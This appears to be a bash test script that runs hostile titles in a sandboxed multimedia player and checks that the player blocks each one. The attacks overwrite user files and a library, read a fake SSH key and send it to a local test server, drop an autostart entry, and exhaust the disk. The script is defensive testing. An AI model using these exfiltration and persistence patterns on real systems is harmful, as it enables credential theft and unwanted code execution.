#!/usr/bin/env bash
# Hostile titles played by the built player, headless, each in a throwaway home holding files of
# the user: a title that tries to overwrite the companion library beside the player, the user's
# files beside its folder or in the documents folder, to send a key of the home folder to a
# server, to write into the home folder through a documents folder that leads there, to take the
# name of the user's file for its part file, to set the wallpaper unasked, to fill the disk
# with folders, to reach the player's folder inside or beside its own with "/" and ":" in its
# names, to make a file of the user's its own through its list of written files, or to write
# from a title folder that leads among the desktop's settings. After each run the disk (and the server's log) must show none of it, and the
# player must have ended by itself, with no signal and no sanitizer report. The rows run side by
# side; one line each, PASS or FAIL with the reasons, and the status 1 when any row fails.
#   hostile_title_test.sh BUILD
set -uo pipefail
build=$1
source_dir=$(cd "$(dirname "$0")/../.." && pwd)
work=$(mktemp -d)
server=
trap '[ -z "$server" ] || kill "$server" 2>/dev/null; rm -rf "$work"' EXIT
player="$build/velaplay"
companion="$build/libvela.so"
[ -e "$companion" ] || companion=$(find "$build" -name libvela.so -print -quit)
unset LD_LIBRARY_PATH VELA_SCALE VELA_MEMORY_LIMIT VELA_DISK_LIMIT VELA_CDROM XDG_RUNTIME_DIR

# A server on a free port of 127.0.0.1 that answers every GET and logs its request line.
python3 - "$work/port" "$work/requests.log" <<'EOF' &
import http.server, os, sys
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(sys.argv[2], "a") as log:
            print(self.requestline, file=log)
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")
    def log_message(self, *args):
        pass
httpd = http.server.HTTPServer(("127.0.0.1", 0), Handler)
with open(sys.argv[1] + ".part", "w") as out:
    print(httpd.server_address[1], file=out)
os.rename(sys.argv[1] + ".part", sys.argv[1])
httpd.serve_forever()
EOF
server=$!

# What every row's title is made of, written with the page writer: the project (its variable
# "port" holds the server's port) and its install set, done.vsb, which ends the player once the
# HTTP request has ended, and each row's start page, rowN.vsb. Expressions join texts with "++"
# ("+" adds numbers). The pages are compiled side by side: each expression is a run of vexpr.
mkdir "$work/src" "$work/pages"
VELA_VEXPR="$build/tools/vexpr" python3 - "$source_dir/tools" "$work" <<'EOF' || exit 1
import concurrent.futures, json, os, sys, time
sys.path.insert(0, sys.argv[1])
import vpage
work = sys.argv[2]
def calc(expression):
    return {"cmd": "Calc", "do": expression}
def declare(name, kind, value=None):
    return {"cmd": "VarNew", "name": name, "type": kind, "value": value}
def loop(body, count=2000):
    return [declare("i", "int"), {"cmd": "Label", "name": "top"},
            {"cmd": "While", "cond": f"i < {count}", "exit": "after"}] + \
           [dict(command, indent=1) for command in body] + \
           [{"cmd": "WhileLoop", "do": "i = i + 1", "head": "top"}, {"cmd": "Label", "name": "after"}]
pages = {
    "row1": [calc(r'ExtractFile("x\\libvela.so", FALSE, "")')],
    "row2": [calc(r'ExtractFile("x\\notes.txt", FALSE, "")'), calc('SaveScreen("photo.mra", 8, 8, FALSE, 1)')],
    "row3": [calc('ExtractFile("notes.txt", FALSE, "Documents")'),
             calc(r'SaveScreen("Documents\\photo.mra", 8, 8, FALSE, 1)'),
             calc('SaveScreen("photo.mra", 8, 8, FALSE, 1)'), calc('SaveScreen("Documents/photo.mra", 8, 8, FALSE, 1)'),
             calc('ExtractFile("notes.txt", FALSE, "Documents/")')],
    "row4": [declare("a", "str", '"nothing"'), calc(r'LoadTextFile(a, ".ssh\\id_rsa")'),
             calc('CreateObject(7, "leak")'),
             {"cmd": "SetProp", "object": '"leak"', "prop": "43", "value": '"done.vsb"'},
             {"cmd": "SetProp", "object": '"leak"', "prop": "2",
              "value": '"http://127.0.0.1:" ++ port ++ "/leak?" ++ a[0]'},
             {"cmd": "Wait", "time": "10000"}],
    "row5": [calc('ExtractFile("drop.txt", FALSE, "{MyDocuments}")')],
    "row6": [calc('ExtractFile("report.txt", FALSE, "{MyDocuments}")')],
    "row7": [calc('SetWallPaper("", 2)')],
    "row8a": loop([calc('ExtractFile("one.txt", FALSE, "d" ++ IntToStr(i))')]),
    "row8b": [declare("p", "str", '"n"')] + loop([calc(r'p = p ++ "\\n"')], 1999) +
             [calc('ExtractFile("missing.txt", FALSE, p)')],
    "row9a": [calc('SaveScreen("bin/x.mra", 8, 8, FALSE, 1)'), calc(r'SaveScreen("BIN\\y.mra", 8, 8, FALSE, 1)')],
    "row9b": [calc(r'ExtractFile("x\\a:libvela.so", FALSE, "")'), calc('SaveScreen("a:shot.mra", 8, 8, FALSE, 1)'),
              calc('ExtractFile("y.txt", FALSE, "sub")')],
    "row10a": [calc('SaveScreen("sub/a.mra", 8, 8, FALSE, 0)')],
    "row10b": [calc('SaveScreen("a.mra", 8, 8, FALSE, 0)')],
    "row11a": [calc('ExtractFile("notes.txt", FALSE, "' + work[1:] + '/row11/home/Documents")')],
    "row11b": [calc('ExtractFile("notes.txt", FALSE, "{MyDocuments}")')],
    "row12": [calc('ExtractFile("evil.desktop", FALSE, "autostart")'), calc('SaveScreen("shot.mra", 8, 8, FALSE, 1)')],
    "done": [],
}
def source(name, description):
    with open(f"{work}/src/{name}.json", "w") as out:
        json.dump(description, out)
    return f"{work}/src/{name}.json"
def compile_page(name):
    commands = pages[name] + [{"cmd": "Terminate"}]
    return vpage.main(["page", source(name, {"commands": commands}), f"{work}/pages/{name}.vsb"])
with concurrent.futures.ThreadPoolExecutor(len(pages)) as pool:
    failed = any(list(pool.map(compile_page, pages)))
for _ in range(100):
    if os.path.exists(f"{work}/port"):
        break
    time.sleep(0.1)
with open(f"{work}/port") as port:
    declarations = [{"name": "port", "type": "str", "value": port.read().strip()}]
project = source("project", {"title": "Hostile", "width": 64, "height": 48, "start_page": "start.vsb",
                             "declarations": declarations})
sys.exit(failed or vpage.main(["project", project, f"{work}/pages/vela.vpb"]) or
         vpage.main(["install", project, f"{work}/pages/install.dat"]))
EOF

# fresh NAME [PAGE]: a row with a fresh home whose title starts with PAGE.vsb (NAME.vsb); $dir
# is its work folder (its temporary folder, the player's standard error and what the checks
# keep), $home the home with its configuration and data folders.
fresh() {
  name=$1 page=${2:-$1} dir="$work/$1" home="$work/$1/home" reasons=()
  mkdir -p "$dir/tmp" "$dir/bin" "$home/.config" "$home/.local/share"
  ln -s "$source_dir/tests/tools/fake_gsettings" "$dir/bin/gsettings"
}
# title FOLDER [CONTENT=FILE...]: the row's page as the start page of the title in FOLDER, its
# game.dat holding FILE's bytes as each content name (folders as "/").
title() {
  local folder=$1 pack="$dir/pack" entry
  shift
  mkdir -p "$folder" "$pack"
  cp "$work/pages/install.dat" "$folder/"
  cp "$work/pages/vela.vpb" "$work/pages/done.vsb" "$pack/"
  cp "$work/pages/$page.vsb" "$pack/start.vsb"
  for entry in "$@"; do
    mkdir -p "$(dirname "$pack/${entry%%=*}")"
    cp "${entry#*=}" "$pack/${entry%%=*}"
  done
  "$build/tools/vfpack" pack "$folder/game.dat" "$pack" >/dev/null || exit 1
}
because() { reasons+=("$*"); }
# mine FILE...: files of the user, with their folders, checked by unchanged.
mine() {
  local file
  for file in "$@"; do mkdir -p "$(dirname "$file")" && echo "the user's $(basename "$file")" >"$file"; done
  sha256sum "$@" >"$dir/kept"
}
unchanged() { sha256sum --quiet -c "$dir/kept" >/dev/null 2>&1 || because "$1"; }
# play ARG...: the player run in the row's home, headless; $status and $dir/stderr.
play() {
  HOME="$home" XDG_CONFIG_HOME="$home/.config" XDG_DATA_HOME="$home/.local/share" TMPDIR="$dir/tmp" \
    PATH="$dir/bin:$PATH" FAKE_GSETTINGS_LOG="$dir/gsettings.log" VELA_HEADLESS=1 \
    timeout 60 "$player" "$@" 2>"$dir/stderr"
  status=$?
}
# verdict DESCRIPTION [STATUS]: the row's line; the player must have ended with STATUS (0). The
# status of the row.
verdict() {
  if [ "$status" -eq 124 ]; then because "still playing after 60 s"
  elif [ "$status" -gt 128 ]; then because "killed by signal $((status - 128))"
  elif [ "$status" -ne "${2:-0}" ]; then because "exit status $status"
  fi
  ! grep -qE 'Sanitizer|runtime error:' "$dir/stderr" || because "a sanitizer report"
  [ ${#reasons[@]} -ne 0 ] || { echo "PASS $name: $1"; return 0; }
  echo "FAIL $name: $1: $(IFS=';'; echo "${reasons[*]}")"
  head -n 5 "$dir/stderr" | sed 's/^/    /'
  return 1
}
printf 'a title file\n' >"$work/content.txt"
printf 1 >"$work/one.txt"

# 1. A title in the player's own folder extracts a file named as the companion library.
row1() {
  fresh row1
  mkdir -p "$dir/game"
  cp "$player" "$companion" "$dir/game/"
  title "$dir/game" "x/libvela.so=$work/content.txt"
  sha256sum "$dir/game/libvela.so" >"$dir/kept"
  player="$dir/game/velaplay" play "$dir/game"
  unchanged "the companion library changed"
  grep -q . "$dir/stderr" || because "no refusal on standard error"
  verdict "the companion library beside the player stays as it was"
}

# 2. A title kept on the desktop writes over the user's files lying there.
row2() {
  fresh row2
  mine "$home/Desktop/notes.txt" "$home/Desktop/photo.mra"
  title "$home/Desktop" "x/notes.txt=$work/content.txt"
  play "$home/Desktop/game.dat"
  unchanged "the user's files on the desktop changed or went"
  verdict "the user's files beside a title on the desktop stay"
}

# 3. A title kept in the home folder writes over the user's documents, with "\\" or "/".
row3() {
  fresh row3
  mine "$home/Documents/notes.txt" "$home/Documents/photo.mra"
  title "$home" "notes.txt=$work/content.txt"
  play "$home/game.dat"
  unchanged "the user's documents changed or went"
  verdict "the user's documents below a title in the home folder stay"
}

# 4. A title kept in the home folder reads the user's key and sends it to a server.
row4() {
  fresh row4
  mkdir -p "$home/.ssh"
  echo KEY-SECRET-77 >"$home/.ssh/id_rsa"
  title "$home"
  play "$home/game.dat"
  grep -q 'GET /leak' "$work/requests.log" 2>/dev/null || because "the title's request never reached the server"
  ! grep -q KEY-SECRET-77 "$work/requests.log" 2>/dev/null || because "the server saw the key"
  verdict "a hidden file of the home folder is neither read nor sent"
}

# 5. The documents folder leads to the home folder: by a link (a), or in the user-dirs file (b).
row5() {
  fresh "row5$1" row5
  [ "$1" = b ] || ln -s "$home" "$home/Documents"
  [ "$1" = a ] || echo 'XDG_DOCUMENTS_DIR="$HOME/."' >"$home/.config/user-dirs.dirs"
  title "$dir/title" "drop.txt=$work/content.txt"
  play "$dir/title"
  [ ! -e "$home/drop.txt" ] || because "drop.txt was written into the home folder"
  verdict "nothing extracted to the documents folder lands in the home folder"
}

# 6. The user's file bears the name of the part file of what the title extracts.
row6() {
  fresh row6
  mine "$home/Documents/report.txt.\$\$\$"
  title "$dir/title" "report.txt=$work/content.txt"
  play "$dir/title"
  unchanged "the user's report.txt.\$\$\$ changed or went"
  [ -f "$home/Documents/report.txt" ] || because "report.txt was not extracted"
  verdict "the user's report.txt.\$\$\$ stays"
}

# 7. A headless title sets the wallpaper: nobody can say yes.
row7() {
  fresh row7
  title "$dir/title"
  play "$dir/title"
  [ ! -s "$dir/gsettings.log" ] || because "gsettings was run: $(head -n 1 "$dir/gsettings.log")"
  verdict "the wallpaper is not set without a yes"
}

# 8. Under a disk budget of 1 MiB, where each file and folder takes a block of 4 KiB: a file of
# 1 byte extracted into 2,000 folders (a), a missing entry into a folder 2,000 deep (b).
folders() { find "$dir/title" -mindepth 1 -type d | wc -l; }
row8a() {
  fresh row8a
  title "$dir/title" "one.txt=$work/one.txt"
  VELA_DISK_LIMIT=1 play "$dir/title"
  [ -f "$dir/title/d0/one.txt" ] || because "one.txt was not extracted at all"
  [ "$(folders)" -le 128 ] || because "$(folders) folders made"
  grep -q 'ディスクに書ける量' "$dir/stderr" || because "the disk budget not named on standard error"
  verdict "the budget ends the title after at most 128 folders" 1
}
row8b() {
  fresh row8b
  title "$dir/title"
  VELA_DISK_LIMIT=1 play "$dir/title"
  [ "$(folders)" -eq 0 ] || because "$(folders) folders made"
  verdict "no folder is made for a missing entry"
}

# 9. The player in a folder "bin" of the title's folder (a), and beside the title (b): names
# with "/" and ":" lead into the player's folder, and a folder is made there before the gate asks.
row9() {
  fresh "row9$1"
  local game="$dir/game" at="$dir/game/bin"
  [ "$1" = b ] && at=$game
  mkdir -p "$at"
  cp "$player" "$companion" "$at/"
  title "$game" "y.txt=$work/content.txt"
  ls -A "$at" >"$dir/before"
  player="$at/velaplay" play "$game"
  ls -A "$at" | diff -q "$dir/before" - >/dev/null || because "the player's folder took $(ls -A "$at" | tr '\n' ' ')"
  verdict "nothing is written into the player's folder inside or beside the title's"
}

# 10. A first start writes sub/a.mra; the user puts a picture at a.mra; a second start saves a.mra.
row10() {
  fresh row10 row10a
  title "$dir/title"
  mkdir "$dir/title/sub"
  play "$dir/title"
  [ -f "$dir/title/sub/a.mra" ] || because "the first start wrote no sub/a.mra"
  mine "$dir/title/a.mra"
  page=row10b title "$dir/title"
  play "$dir/title"
  unchanged "the user's a.mra was replaced"
  verdict "a file the title wrote in a folder makes no file of the user's its own"
}

# 11. A title folder whose name ends in a line break writes a file at a path below it that spells
# the user's file; its next start extracts over the user's file.
row11() {
  fresh row11 row11a
  local folder="$dir/t
"
  mine "$home/Documents/notes.txt"
  title "$folder" "notes.txt=$work/content.txt"
  play "$folder"
  [ -f "$folder/${home#/}/Documents/notes.txt" ] || because "the title's own notes.txt was not written"
  page=row11b title "$folder" "notes.txt=$work/content.txt"
  play "$folder"
  unchanged "the user's notes.txt was replaced"
  verdict "no name below a title's folder forges its list of written files"
}

# 12. A title folder that is a link into the desktop's settings folder, and one to the home folder.
row12() {
  fresh "row12$1" row12
  local target="$home/.config"
  [ "$1" = b ] && target=$home
  mkdir -p "$target/autostart"
  title "$target" "evil.desktop=$work/content.txt"
  mine "$home/.config/autostart/keep.desktop"
  ln -s "$target" "$dir/title"
  play "$dir/title"
  unchanged "the user's autostart entry changed"
  [ -z "$(find "$home" -name evil.desktop -o -name shot.mra -o -name save.dat | grep -v /.local/share/)" ] ||
    because "written among the desktop's settings: $(find "$home" -name evil.desktop -o -name shot.mra -o -name save.dat)"
  grep -q 'read-only' "$dir/stderr" || because "no line says the title plays read-only"
  verdict "a title folder among the desktop's settings plays read-only"
}

rows=(row1 row2 row3 row4 "row5 a" "row5 b" row6 row7 row8a row8b "row9 a" "row9 b" row10 row11 "row12 a" "row12 b")
pids=()
for i in "${!rows[@]}"; do
  ${rows[i]} >"$work/verdict$i" 2>&1 &
  pids+=($!)
done
failed=0
for i in "${!rows[@]}"; do
  wait "${pids[i]}" || failed=1
  cat "$work/verdict$i"
done
exit "$failed"
